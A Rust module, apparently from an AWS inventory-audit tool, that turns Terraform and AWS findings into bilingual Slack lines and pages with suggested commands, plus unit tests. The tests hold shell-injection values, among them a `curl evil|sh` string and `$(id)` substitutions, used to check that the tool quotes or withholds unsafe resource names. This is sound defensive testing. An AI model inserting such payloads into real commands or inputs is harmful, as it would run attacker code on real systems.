//! What people read: in the channel, in a page, in the record. Nothing of a state's content is known here.

use shared::audit::findings::{self, Changes, Item, NAME};
use shared::audit::first_week::Quiet;
use shared::policy::{Area, Responsible};
use shared::run::notify::Message;
use shared::run::paging::{Alert, Page, Severity};
use shared::run::report::Unread;
use shared::runtime::language::Language;
use shared::runtime::settings::Settings;

use crate::policy::{Problem, Row};
use crate::settings::Setting;
use crate::state::Value;
use crate::table;

/// Most lines of findings in a message; Slack cuts a longer one without saying so.
const MOST_LINES: usize = 8;

/// The line of a problem in the evidence record: its key and the details.
pub(crate) fn line(row: &Row, problem: &Problem) -> String {
    format!("{}: {}", row.key(problem), sentence(problem, Language::English))
}

/// What is wrong, in a sentence.
fn sentence(problem: &Problem, language: Language) -> String {
    match problem {
        Problem::NothingRead => language
            .pick("nada do inventário pôde ser visto", "nothing of the inventory could be seen")
            .to_owned(),
        Problem::Missing { is_in_state } => {
            let known = match is_in_state {
                Some(true) => language.pick(
                    "não existe na AWS, e o estado do Terraform diz que existe",
                    "does not exist in AWS, and the Terraform state says that it does",
                ),
                Some(false) => language.pick(
                    "não existe na AWS, nem no estado do Terraform",
                    "exists neither in AWS nor in the Terraform state",
                ),
                None => language.pick(
                    "não existe na AWS; o estado do Terraform não foi lido",
                    "does not exist in AWS; the Terraform state was not read",
                ),
            };
            known.to_owned()
        }
        Problem::InsufficientData { why } => {
            format!("{}: {why}", language.pick("não foi possível verificar", "could not be checked"))
        }
        Problem::StateUndeclared => language
            .pick(
                "a stack não diz onde está o estado do Terraform, então nada foi comparado com ele",
                "the stack does not say where the Terraform state is, so nothing was compared with it",
            )
            .to_owned(),
        Problem::StateUnreadable { why } => format!(
            "{}: {why}",
            language.pick(
                "este estado do Terraform não pôde ser lido, então nada foi comparado com ele",
                "this Terraform state could not be read, so nothing was compared with it",
            )
        ),
        Problem::ListUnread { why } => format!(
            "{}: {why}",
            language.pick(
                "não foi possível listar o que mais o projeto tem na AWS",
                "what else the project has in AWS could not be listed",
            )
        ),
        Problem::ValueInState { value, rotates } => value_sentence(value, *rotates, language),
        Problem::InTwoStates { places } => {
            let places: Vec<_> = places
                .iter()
                .map(|place| {
                    format!(
                        "`{}` {} `{}`",
                        shown(&place.address),
                        language.pick("em", "in"),
                        shown(&place.file)
                    )
                })
                .collect();
            format!(
                "{} {}",
                language.pick(
                    "o Terraform o gerencia em mais de um lugar, e um `apply` ou `destroy` num deles muda o que o outro tem:",
                    "Terraform manages it in more than one place, and an `apply` or `destroy` in one changes what the other has:",
                ),
                places.join(", ")
            )
        }
        Problem::Drift { setting, found, expected, place } => {
            let reported = format!(
                "{}: {} `{}`, {} `{}` (`{}`)",
                setting.name(),
                language.pick("a AWS tem", "AWS has"),
                shown(found),
                language.pick("o estado do Terraform diz", "the Terraform state says"),
                shown(expected),
                shown(&place.address),
            );
            if *setting == Setting::TaskDefinition {
                let low = language.pick(
                    "gravidade baixa: deploys fora do Terraform mudam a revisão de propósito",
                    "low severity: deployments outside Terraform change the revision deliberately",
                );
                format!("{reported}; {low}")
            } else {
                reported
            }
        }
        Problem::TagsMissing { tags } => {
            let tags: Vec<_> = tags.iter().map(|(key, _)| *key).collect();
            format!(
                "{} {}",
                language.pick(
                    "tags faltando ou com outro valor:",
                    "tags that are missing or say something else:"
                ),
                tags.join(", ")
            )
        }
        Problem::NotInState => language
            .pick(
                "existe na AWS e não está no estado do Terraform",
                "exists in AWS and not in the Terraform state",
            )
            .to_owned(),
        Problem::NotInInventory => language
            .pick(
                "tem as tags do ambiente e não está no inventário, então ninguém responde por ele",
                "has the environment's tags and is not in the inventory, so nobody answers for it",
            )
            .to_owned(),
        Problem::EmptyArea => language
            .pick("a área não tem nenhum recurso no inventário", "the area has no resource in the inventory")
            .to_owned(),
        Problem::OneTeam => language
            .pick(
                "responsável e backup são a mesma equipe, então não há backup",
                "primary and backup are the same team, so there is no backup",
            )
            .to_owned(),
    }
}

/// Foreign text that stays in its place in a message.
fn shown(text: &str) -> String {
    text.chars().map(|c| if c.is_control() || c == '`' { '?' } else { c }).collect()
}

/// A word of a command for a shell, quoted where it must be; none where a message could not carry it.
fn shell(word: &str) -> Option<String> {
    let is_harmless = |c: char| c.is_ascii_alphanumeric() || ":/_.+=@,-".contains(c);
    if word.chars().any(|c| c.is_control() || c == '`') {
        return None;
    }
    if !word.is_empty() && word.chars().all(is_harmless) {
        return Some(word.to_owned());
    }
    Some(format!("'{}'", word.replace('\'', "'\\''")))
}

/// A command of Terraform about an address.
fn terraform(command: &str, address: &str, language: Language) -> String {
    match shell(address) {
        Some(address) => format!("`terraform {command}{address}`"),
        None => format!(
            "`terraform {}` {}",
            command.split(' ').next().unwrap_or_default(),
            language.pick(
                "à mão: o endereço tem caracteres que uma mensagem não leva",
                "by hand: the address has characters that a message does not carry",
            )
        ),
    }
}

fn value_sentence(value: &Value, rotates: Option<bool>, language: Language) -> String {
    let attributes: Vec<_> = value.attributes.iter().map(|name| shown(name)).collect();
    let held = format!(
        "{} `{}` {} `{}` ({})",
        language.pick("o estado do Terraform", "the Terraform state"),
        shown(&value.place.file),
        language.pick("guarda o valor em claro de", "holds in clear the value of"),
        shown(&value.place.address),
        attributes.join(", "),
    );
    let danger = if is_written(value) && rotates == Some(true) {
        language.pick(
            "gravidade alta: o segredo tem rotação, e um `terraform apply` põe o valor antigo de volta",
            "high severity: the secret has a rotation, and a `terraform apply` puts the old value back",
        )
    } else {
        language.pick("quem lê o estado lê o valor", "who reads the state reads the value")
    };
    format!("{held}; {danger}")
}

/// Whether Terraform writes the value of a secret.
fn is_written(value: &Value) -> bool {
    ["aws_secretsmanager_secret_version", "awscc_secretsmanager_secret"].contains(&value.kind.as_str())
        && !value.is_data
}

/// Whether the resource is the value, and not a resource that has one, which Terraform is to go on managing.
fn is_the_value(value: &Value) -> bool {
    [
        "aws_iam_access_key",
        "aws_iam_service_specific_credential",
        "aws_iam_user_login_profile",
        "aws_kms_ciphertext",
        "aws_secretsmanager_secret_version",
        "random_bytes",
        "random_password",
        "tls_private_key",
    ]
    .contains(&value.kind.as_str())
}

/// The write-only argument that takes an attribute's place. Source: the AWS provider's schema.
fn write_only(value: &Value) -> Option<(&'static str, &'static str)> {
    let pairs = [
        ("aws_db_instance", "password", "password_wo"),
        ("aws_docdb_cluster", "master_password", "master_password_wo"),
        ("aws_rds_cluster", "master_password", "master_password_wo"),
        ("aws_redshift_cluster", "master_password", "master_password_wo"),
        ("aws_ssm_parameter", "value", "value_wo"),
    ];
    let is_it =
        |(kind, name, _): &(&str, &str, &str)| *kind == value.kind && value.attributes.contains(*name);
    pairs.into_iter().find(is_it).filter(|_| !value.is_data).map(|(_, name, instead)| (name, instead))
}

/// How a value leaves the state, and why it has to change then.
fn value_step(value: &Value, rotates: Option<bool>, language: Language) -> String {
    let address = &value.place.address;
    let forget = || terraform("state rm ", address, language);
    let leave = if value.kind == "output" {
        format!(
            "{} `terraform apply`",
            language.pick("apagar o output do código e", "delete the output from the code, and"),
        )
    } else if let Some((name, instead)) = write_only(value) {
        format!(
            "{} `{name}` {} `{instead}` {} `{instead}_version` (Terraform 1.11+), {} {}",
            language.pick("trocar", "replace"),
            language.pick("por", "by"),
            language.pick("e", "and"),
            language.pick("e", "and"),
            terraform("apply -target=", address, language),
        )
    } else if value.is_data {
        format!(
            "{} {}",
            language.pick(
                "apagar o bloco `data` do código (ou usar `ephemeral`, Terraform 1.10+) e",
                "delete the `data` block from the code (or use `ephemeral`, Terraform 1.10+), and",
            ),
            forget(),
        )
    } else if !is_the_value(value) {
        format!(
            "{} {}, {} `terraform import`, {}",
            language.pick(
                "tirar o argumento do código (com `ignore_changes`) e, antes de qualquer `terraform apply`,",
                "take the argument out of the code (with `ignore_changes`), and before any `terraform apply`",
            ),
            forget(),
            language.pick("depois", "then"),
            language.pick("que não traz o valor", "which does not bring the value"),
        )
    } else {
        format!(
            "{} {}",
            language.pick(
                "apagar o bloco do código (ou trocá-lo por `removed` com `destroy = false`, Terraform 1.7+) e, antes de qualquer `terraform apply`,",
                "delete the block from the code (or replace it by `removed` with `destroy = false`, Terraform 1.7+), and before any `terraform apply`",
            ),
            forget(),
        )
    };
    let rotate = match value.arn.as_deref().filter(|_| rotates == Some(true)).and_then(shell) {
        Some(arn) => format!(": `aws secretsmanager rotate-secret --secret-id {arn}`"),
        None => String::new(),
    };
    format!(
        "{leave}; {}{rotate}",
        language.pick(
            "depois, trocar o valor, que as versões anteriores do objeto do estado guardam",
            "then change the value, which earlier versions of the state's object keep",
        ),
    )
}

/// What to do next, with the command.
fn next_step(settings: &Settings, row: &Row, problem: &Problem) -> String {
    let language = settings.language;
    let area = row.area.unwrap_or(Area::Infrastructure).name();
    let again = format!("`aws lambda invoke --function-name {} /dev/stdout`", settings.function);
    match problem {
        Problem::NothingRead | Problem::InsufficientData { .. } | Problem::ListUnread { .. } => format!(
            "{} {again}",
            language.pick(
                "conferir a permissão (IAM) que o erro nomeia e invocar de novo:",
                "check the permission (IAM) that the error names, and invoke again:",
            )
        ),
        Problem::Missing { is_in_state: Some(true) } => language
            .pick(
                "ver com `terraform plan` o que foi apagado fora do Terraform e recriar com `terraform apply`; um banco ou bucket volta primeiro do backup",
                "see with `terraform plan` what was deleted outside Terraform, and make it again with `terraform apply`; a database or bucket comes back from its backup first",
            )
            .to_owned(),
        Problem::Missing { .. } => format!(
            "{} inventory.areas.{area}.resources.{} ({})",
            language.pick(
                "criar no Terraform e `terraform apply`, ou, se o nome é outro, corrigir na política",
                "declare it in Terraform and `terraform apply`, or, if its name is another, correct it in the policy's",
            ),
            row.kind,
            "`cargo xtask policy apply`",
        ),
        Problem::StateUndeclared => language
            .pick(
                "informar TerraformStateBucketName e TerraformStateKey no deploy da stack (docs/inventario.md); um estado local não pode ser lido",
                "give TerraformStateBucketName and TerraformStateKey when deploying the stack (docs/inventario.md); a local state cannot be read",
            )
            .to_owned(),
        Problem::StateUnreadable { .. } => format!(
            "{} {again}",
            language.pick(
                "conferir TerraformStateBucketName, TerraformStateKey e TerraformStateKmsKeyArn da stack (até lá, o que não está nos outros estados conta como não verificado), e invocar de novo:",
                "check the stack's TerraformStateBucketName, TerraformStateKey and TerraformStateKmsKeyArn (until then, what is in none of the other states counts as not verified), and invoke again:",
            )
        ),
        Problem::ValueInState { value, rotates } => value_step(value, *rotates, language),
        Problem::InTwoStates { places } => {
            let commands: Vec<_> = places
                .iter()
                .map(|place| {
                    let command = terraform("state rm ", &place.address, language);
                    format!("{command} ({} `{}`)", language.pick("estado", "state"), shown(&place.file))
                })
                .collect();
            format!(
                "{} {}",
                language.pick(
                    "deixá-lo num só: nos outros, apagar o bloco do código e, antes de qualquer `terraform apply`,",
                    "leave it in one: in the others, delete the block from the code, and before any `terraform apply`",
                ),
                commands.join(language.pick(" ou ", " or ")),
            )
        }
        Problem::Drift { setting, place, .. } => {
            let command = terraform("plan -target=", &place.address, language);
            let decide = if *setting == Setting::TaskDefinition {
                language.pick(
                    "se o deploy é de fora do Terraform, `lifecycle { ignore_changes = [task_definition] }` no serviço; senão, ver o que o Terraform mudaria:",
                    "where deployments are not Terraform's, `lifecycle { ignore_changes = [task_definition] }` in the service; else, see what Terraform would change:",
                )
            } else {
                language.pick(
                    "ver o que o Terraform mudaria, e levar ao código o que deve ficar:",
                    "see what Terraform would change, and bring into the code what is to stay:",
                )
            };
            format!("{decide} {command} ({} `{}`)", language.pick("estado", "state"), shown(&place.file))
        }
        Problem::TagsMissing { tags } => {
            let tags: Vec<_> = tags
                .iter()
                .map(|(key, value)| format!("{key}={}", value.as_deref().unwrap_or("terraform")))
                .collect();
            let tags = tags.join(",");
            let command = format!("tag-resources --resource-arn-list '{}' --tags {tags}", row.arn);
            format!(
                "{} {}",
                language.pick("corrigir em default_tags do Terraform, ou já:", "correct it in Terraform's default_tags, or now:"),
                tagging(row, &command, language)
            )
        }
        Problem::NotInState => format!(
            "{} {}",
            language.pick("declarar no Terraform e importar:", "declare it in Terraform and import it:"),
            import(row, language)
        ),
        Problem::NotInInventory => format!(
            "{} inventory.areas.….resources.{} ({})",
            language.pick(
                "acrescentar à área que responde por ele na política,",
                "add it to the area that answers for it in the policy,",
            ),
            row.kind,
            "`cargo xtask policy apply`",
        ),
        Problem::OneTeam => {
            let place = if row.kind == "area" {
                format!("inventory.areas.{area}.responsible.backup")
            } else {
                "rotation.secrets.….responsible.backup".to_owned()
            };
            format!(
                "{} {place} ({})",
                language.pick("nomear outra equipe em", "name another team in"),
                "`cargo xtask policy apply`",
            )
        }
        Problem::EmptyArea => format!(
            "{} inventory.areas.{area}.resources ({})",
            language.pick("nomear os recursos dela em", "name its resources in"),
            "`cargo xtask policy apply`",
        ),
    }
}

/// A command of the tagging API about a resource, unless its ARN holds what a shell would run.
fn tagging(row: &Row, command: &str, language: Language) -> String {
    let is_harmless = |c: char| c.is_ascii_alphanumeric() || ":/_.+=@#,-".contains(c);
    if row.arn.chars().all(is_harmless) {
        return format!("`aws resourcegroupstaggingapi {command}`");
    }
    language
        .pick(
            "pelo console: o nome dele tem caracteres que um shell executaria",
            "in the console: its name has characters that a shell would run",
        )
        .to_owned()
}

/// How Terraform takes a resource over.
fn import(row: &Row, language: Language) -> String {
    let command = row
        .import
        .as_ref()
        .and_then(|(kind, id)| Some(format!("`terraform import {kind}.NOME {}`", shell(id)?)));
    command.unwrap_or_else(|| {
        let command = format!("get-resources --resource-arn-list '{}'", row.arn);
        tagging(row, &command, language)
    })
}

fn people(responsible: &Responsible, language: Language) -> String {
    let who = language.pick("Responsável", "Owner");
    format!("{who}: {}, backup: {}", responsible.primary, responsible.backup)
}

/// The page of a problem.
pub(crate) fn page(settings: &Settings, row: &Row, problem: &Problem) -> Page {
    let alert = Alert {
        kind: problem.kind(),
        severity: Severity::Critical,
        resource: &row.about(),
        text: format!(
            "{} ({}): {}.\n{}: {}.",
            row.about(),
            settings.environment,
            sentence(problem, settings.language),
            settings.language.pick("Próximo passo", "Next step"),
            next_step(settings, row, problem),
        ),
        owners: vec![&row.responsible],
        runbook: "docs/inventario.md#o-que-cada-achado-significa",
        dedup_key: format!("inventory-audit/{}/{}/{}", row.kind, row.name, problem.kind()),
    };
    Page::new(settings, alert)
}

/// What a run tells the channel.
pub(crate) struct Summary<'a> {
    /// Run id.
    pub run_id: &'a str,
    /// What was decided, worst first.
    pub rows: &'a [Row],
    /// What has changed since the record before.
    pub changes: &'a Changes,
    /// Whether everything is told, not only what changed.
    pub is_weekly: bool,
    /// Why the record before could not be read, if it could not; then everything is told.
    pub unread: Option<&'a Unread>,
    /// The first week, if it is not over.
    pub quiet: Option<Quiet<'a>>,
}

/// All that is wrong, in the order in which it is to be settled.
fn ordered(settings: &Settings, rows: &[Row]) -> Vec<Item> {
    let all = rows.iter().flat_map(|row| row.problems.iter().map(move |problem| (row, problem)));
    let mut all: Vec<_> = all.collect();
    all.sort_by_key(|(_, problem)| *problem);
    let reported = |(row, problem): (&Row, &Problem)| {
        let step = next_step(settings, row, problem);
        let mut pattern = step.clone();
        for (text, placeholder) in [(&row.arn, "ARN"), (&row.name, NAME)] {
            if !text.is_empty() {
                pattern = pattern.replace(&format!("'{text}'"), &format!("'{placeholder}'"));
                // A word that needs no quotes, at the end of a command.
                pattern = pattern.replace(&format!(" {text}`"), &format!(" {placeholder}`"));
            }
        }
        let sentence = sentence(problem, settings.language);
        Item { kind: problem.kind().to_owned(), about: row.about(), sentence, step, pattern }
    };
    all.into_iter().map(reported).collect()
}

/// The channel's message.
pub(crate) fn summary(settings: &Settings, summary: &Summary<'_>) -> Message {
    let language = settings.language;
    let all = || summary.rows.iter().flat_map(|row| row.problems.iter().map(move |problem| (row, problem)));
    let unverified = all().filter(|(_, problem)| problem.is_unverified()).count();
    let wrong = all().count() - unverified;
    let title = format!(
        "{} ({}): {wrong} {}, {unverified} {}",
        match (language, summary.is_weekly) {
            (Language::Portuguese, false) => "Inventário",
            (Language::Portuguese, true) => "Inventário, resumo da semana",
            (Language::English, false) => "Inventory",
            (Language::English, true) => "Inventory, the week's summary",
        },
        settings.environment,
        language.pick("achado(s)", "finding(s)"),
        language.pick("não verificado(s)", "not verified"),
    );
    let tells_all = summary.is_weekly || summary.unread.is_some();
    let is_summary = summary.quiet.is_some_and(|quiet| quiet.is_summary);
    let is_reported = |row: &Row, problem: &Problem| {
        !is_summary && (tells_all || summary.changes.new.contains(&row.key(problem)))
    };
    let reported: Vec<_> = all().filter(|(row, problem)| is_reported(row, problem)).collect();
    let mut lines: Vec<_> = summary.unread.iter().map(|unread| unread.text(language)).collect();
    lines.extend(match summary.quiet {
        Some(Quiet { week, held, is_summary: true, place }) => {
            week.summary(held, place, &findings::groups(&ordered(settings, summary.rows)), language)
        }
        quiet => quiet.map(|quiet| quiet.week.line(quiet.held, quiet.place, language)).into_iter().collect(),
    });
    let each: Vec<String> = reported
        .iter()
        .take(MOST_LINES)
        .map(|(row, problem)| {
            format!(
                "*{}* `{}`: {}. {}: {}. {}.",
                problem.kind(),
                row.about(),
                sentence(problem, language),
                language.pick("Próximo passo", "Next step"),
                next_step(settings, row, problem),
                people(&row.responsible, language),
            )
        })
        .collect();
    lines.extend(each);
    let more = reported.len().saturating_sub(MOST_LINES);
    if more > 0 {
        lines.push(format!("{} {more}: `{}`.", language.pick("E mais", "And more:"), table::KEY));
    }
    let still = all().count() - reported.len();
    if still > 0 && !is_summary {
        lines.push(format!("{} {still}: `{}`.", language.pick("Continuam", "Still so:"), table::KEY));
    }
    let resolved: Vec<_> = summary.changes.resolved.iter().take(MOST_LINES).cloned().collect();
    if !resolved.is_empty() {
        let more = summary.changes.resolved.len().saturating_sub(resolved.len());
        let more = if more > 0 { format!(" (+{more})") } else { String::new() };
        lines.push(format!("{} {}{more}.", language.pick("Resolvido:", "Resolved:"), resolved.join("; ")));
    }
    if lines.is_empty() {
        lines.push(
            language
                .pick(
                    "Todo recurso do inventário existe, tem as tags, está no Terraform e tem quem responda por ele.",
                    "Every resource of the inventory exists, has the tags, is in Terraform and has people who answer for it.",
                )
                .to_owned(),
        );
    }
    let context = format!("{} · {} · {}", settings.function, summary.run_id, settings.code_version);
    Message { title, lines, context }
}

#[cfg(test)]
mod tests {
    use shared::audit::first_week::{FirstWeek, Held};
    use std::collections::BTreeSet;

    use super::*;
    use crate::policy::Verdict;
    use crate::state::Place;

    fn settings(language: Language) -> Settings {
        Settings {
            function: "moveongs-dev-inventory-audit".to_owned(),
            project: "moveongs".to_owned(),
            environment: "dev".to_owned(),
            code_version: "abc".to_owned(),
            language,
            policy: "".parse().unwrap(),
        }
    }

    fn row(kind: &str, name: &str, problems: Vec<Problem>) -> Row {
        Row {
            area: Some(Area::Database),
            kind: kind.to_owned(),
            name: name.to_owned(),
            arn: format!("arn:aws:x:{name}"),
            responsible: Responsible { primary: "Squad Dados".to_owned(), backup: "Squad Infra".to_owned() },
            exists: Verdict::Pass,
            tags: Verdict::Pass,
            state: Verdict::Pass,
            settings: Verdict::NotAsked,
            import: (kind == "rds-instance").then(|| ("aws_db_instance", name.to_owned())),
            problems,
        }
    }

    fn place(file: &str, address: &str) -> Place {
        Place { file: file.into(), address: address.to_owned() }
    }

    fn held(kind: &str, attributes: &[&str], is_data: bool, rotates: Option<bool>) -> Problem {
        let value = Value {
            place: place("k", "module.a[\"b\"].x"),
            kind: kind.to_owned(),
            attributes: attributes.iter().map(|name| (*name).to_owned()).collect(),
            is_data,
            arn: Some("arn:aws:x:moveongs-dev-db".to_owned()),
            rotates: None,
        };
        Problem::ValueInState { value, rotates }
    }

    #[test]
    fn a_value_that_a_rotation_replaces_is_of_high_severity() {
        let sentence = |problem: &Problem| sentence(problem, Language::Portuguese);
        let version = "aws_secretsmanager_secret_version";
        let high = sentence(&held(version, &["secret_string"], false, Some(true)));
        assert!(high.contains("gravidade alta") && high.contains("põe o valor antigo de volta"), "{high}");
        for problem in [
            held(version, &["secret_string"], false, Some(false)),
            held(version, &["secret_string"], true, Some(true)),
            held("random_password", &["result"], false, None),
        ] {
            assert!(!sentence(&problem).contains("alta"));
        }
        let drift = Problem::Drift {
            setting: Setting::TaskDefinition,
            found: "api:8".to_owned(),
            expected: "api:7".to_owned(),
            place: place("k", "aws_ecs_service.api"),
        };
        assert!(sentence(&drift).contains("gravidade baixa"), "{}", sentence(&drift));
    }

    #[test]
    fn a_word_of_a_command_is_one_word_for_a_shell() {
        for (word, expected) in [
            ("aws_db_instance.db", Some("aws_db_instance.db")),
            ("a[\"one\"]", Some("'a[\"one\"]'")),
            ("a[0]", Some("'a[0]'")),
            ("it's", Some("'it'\\''s'")),
            ("$(id);\\", Some("'$(id);\\'")),
            ("", Some("''")),
            ("a`id`", None),
            ("a\nb", None),
        ] {
            assert_eq!(shell(word).as_deref(), expected, "{word}");
        }
    }

    #[test]
    fn every_problem_tells_a_command_or_a_field_in_both_languages() {
        let why = || "s3:GetObject failed (AccessDenied): x".to_owned();
        let row = row("rds-instance", "moveongs-dev-db", Vec::new());
        for (problem, expected) in [
            (Problem::NothingRead, "aws lambda invoke --function-name moveongs-dev-inventory-audit"),
            (Problem::Missing { is_in_state: Some(true) }, "terraform apply"),
            (
                Problem::Missing { is_in_state: Some(false) },
                "inventory.areas.database.resources.rds-instance",
            ),
            (Problem::Missing { is_in_state: None }, "terraform apply"),
            (Problem::InsufficientData { why: why() }, "aws lambda invoke"),
            (Problem::StateUndeclared, "TerraformStateBucketName"),
            (Problem::StateUnreadable { why: why() }, "TerraformStateKey"),
            (Problem::ListUnread { why: why() }, "aws lambda invoke"),
            (
                Problem::TagsMissing {
                    tags: vec![("Environment", Some("dev".to_owned())), ("ManagedBy", None)],
                },
                "tag-resources --resource-arn-list 'arn:aws:x:moveongs-dev-db' --tags Environment=dev,ManagedBy=terraform`",
            ),
            (Problem::NotInState, "terraform import aws_db_instance.NOME moveongs-dev-db`"),
            (Problem::NotInInventory, "resources.rds-instance"),
            (
                held("aws_secretsmanager_secret_version", &["secret_string"], false, None),
                "terraform state rm 'module.a[\"b\"].x'",
            ),
            (
                held("aws_secretsmanager_secret_version", &["secret_string"], false, Some(true)),
                "aws secretsmanager rotate-secret --secret-id arn:aws:x:moveongs-dev-db",
            ),
            (held("aws_secretsmanager_secret_version", &["secret_string"], true, Some(true)), "ephemeral"),
            (held("aws_db_instance", &["password"], false, None), "password_wo_version"),
            (held("aws_elasticache_replication_group", &["auth_token"], false, None), "ignore_changes"),
            (held("output", &["value"], false, None), "terraform apply"),
            (
                Problem::InTwoStates { places: [place("a", "x.y"), place("b", "x.z")].into() },
                "`terraform state rm x.z`",
            ),
            (
                Problem::Drift {
                    setting: Setting::BackupRetention,
                    found: "1".to_owned(),
                    expected: "7".to_owned(),
                    place: place("k", "module.db.aws_db_instance.this[\"one\"]"),
                },
                "`terraform plan -target='module.db.aws_db_instance.this[\"one\"]'`",
            ),
            (
                Problem::Drift {
                    setting: Setting::TaskDefinition,
                    found: "api:8".to_owned(),
                    expected: "api:7".to_owned(),
                    place: place("k", "aws_ecs_service.api"),
                },
                "ignore_changes = [task_definition]",
            ),
            (Problem::OneTeam, "rotation.secrets.….responsible.backup"),
            (Problem::EmptyArea, "inventory.areas.database.resources"),
        ] {
            let mut said = BTreeSet::new();
            for language in [Language::Portuguese, Language::English] {
                let next = next_step(&settings(language), &row, &problem);
                assert!(next.contains(expected), "{problem:?}: {next}");
                said.insert(sentence(&problem, language));
            }
            assert_eq!(said.len(), 2, "{problem:?}");
            assert_eq!(shared::audit::findings::key_of(&line(&row, &problem)), row.key(&problem));
        }
    }

    #[test]
    fn a_secret_is_imported_by_its_arn_and_an_unknown_kind_is_looked_at() {
        let secret = Row {
            import: Some(("aws_secretsmanager_secret", "arn:aws:x:x".to_owned())),
            ..row("secret", "x", vec![])
        };
        assert_eq!(
            import(&secret, Language::English),
            "`terraform import aws_secretsmanager_secret.NOME arn:aws:x:x`"
        );
        assert!(
            import(&row("sns:topic", "x", vec![]), Language::English)
                .contains("get-resources --resource-arn-list 'arn:aws:x:x'")
        );
        for hostile in ["x';curl evil|sh;'", "x`id`", "x$(id)", "x y", "x\ny", "é"] {
            let said = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
            assert!(said.contains("in the console") && !said.contains(hostile), "{said}");
        }
        let area = row("area", "database", vec![]);
        let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
        assert!(next.contains("inventory.areas.database.responsible.backup"), "{next}");
    }

    #[test]
    fn a_page_names_both_teams_and_the_next_step() {
        let missing = Problem::Missing { is_in_state: None };
        let page =
            page(&settings(Language::Portuguese), &row("rds-instance", "moveongs-dev-db", vec![]), &missing);
        assert_eq!(page.subject, "[dev] Missing: rds-instance moveongs-dev-db");
        assert_eq!(page.dedup_key, "inventory-audit/rds-instance/moveongs-dev-db/Missing");
        for part in ["Responsável: Squad Dados, backup: Squad Infra.", "Próximo passo: criar no Terraform"]
        {
            assert!(page.text.contains(part), "{}", page.text);
        }
    }

    #[test]
    fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
        let rows: Vec<_> = (0..12)
            .map(|number| row("s3-bucket", &format!("b{number:02}"), vec![Problem::NotInInventory]))
            .chain([row("tagged-resources", "x", vec![Problem::ListUnread { why: "y".to_owned() }])])
            .collect();
        let keys = |keys: &[&str]| keys.iter().map(|key| (*key).to_owned()).collect::<BTreeSet<_>>();
        let changes = Changes {
            new: keys(&["NotInInventory s3-bucket b03"]),
            resolved: keys(&["Missing rds-instance moveongs-dev-db"]),
        };
        let tell = |is_weekly| {
            let reported = Summary {
                run_id: "2026-03-02",
                rows: &rows,
                changes: &changes,
                is_weekly,
                unread: None,
                quiet: None,
            };
            summary(&settings(Language::Portuguese), &reported)
        };
        let message = tell(false);
        assert_eq!(message.title, "Inventário (dev): 12 achado(s), 1 não verificado(s)");
        assert_eq!(message.lines.len(), 3, "{:?}", message.lines);
        assert!(
            message.lines[0].starts_with("*NotInInventory* `s3-bucket b03`: tem as tags"),
            "{:?}",
            message.lines
        );
        assert_eq!(message.lines[1], "Continuam 12: `inventory/inventory.csv`.");
        assert_eq!(message.lines[2], "Resolvido: Missing rds-instance moveongs-dev-db.");
        let message = tell(true);
        assert!(message.title.starts_with("Inventário, resumo da semana"), "{}", message.title);
        assert_eq!(message.lines.len(), MOST_LINES + 2);
        assert_eq!(message.lines[MOST_LINES], "E mais 5: `inventory/inventory.csv`.");
        let nothing = Summary {
            run_id: "x",
            rows: &[],
            changes: &Changes::default(),
            is_weekly: true,
            unread: None,
            quiet: None,
        };
        let message = summary(&settings(Language::English), &nothing);
        assert_eq!(message.lines.len(), 1);
        assert!(message.lines[0].starts_with("Every resource"), "{:?}", message.lines);
    }

    #[test]
    fn a_first_week_begins_with_what_to_do_first() {
        let rows: Vec<_> = (0..12)
            .map(|number| {
                let name = format!("b{number:02}");
                let import = Some(("aws_s3_bucket", name.clone()));
                Row { import, ..row("s3-bucket", &name, vec![Problem::NotInState]) }
            })
            .chain([row("rds-instance", "moveongs-dev-db", vec![Problem::Missing { is_in_state: None }])])
            .collect();
        let week = FirstWeek { until: "2026-03-08T12:00:00Z".parse().unwrap(), is_first_day: true };
        let tell = |is_summary| {
            let reported = Summary {
                run_id: "2026-03-02",
                rows: &rows,
                changes: &Changes::default(),
                is_weekly: false,
                unread: None,
                quiet: Some(Quiet {
                    week,
                    held: Held { pages: 1, tasks: 0 },
                    is_summary,
                    place: "s3://b/x.csv",
                }),
            };
            summary(&settings(Language::Portuguese), &reported).lines
        };
        let lines = tell(true);
        assert!(lines[0].contains("até 2026-03-08 09:00:00 -03:00") && lines[0].contains("s3://b/x.csv"));
        assert_eq!(lines[1], "*Por regra*: Missing 1; NotInState 12.");
        assert!(lines[3].starts_with("1. *Missing* `rds-instance moveongs-dev-db`: não existe"), "{lines:?}");
        assert!(lines[4].starts_with("2. *NotInState* (12): existe na AWS"), "{lines:?}");
        assert!(lines[4].contains("terraform import aws_s3_bucket.NOME NOME"), "{lines:?}");
        assert_eq!(lines.len(), 5, "{lines:?}");
        let lines = tell(false);
        assert!(
            lines[0].starts_with("*Primeira semana*") && lines[1].starts_with("Continuam 13"),
            "{lines:?}"
        );
    }
}
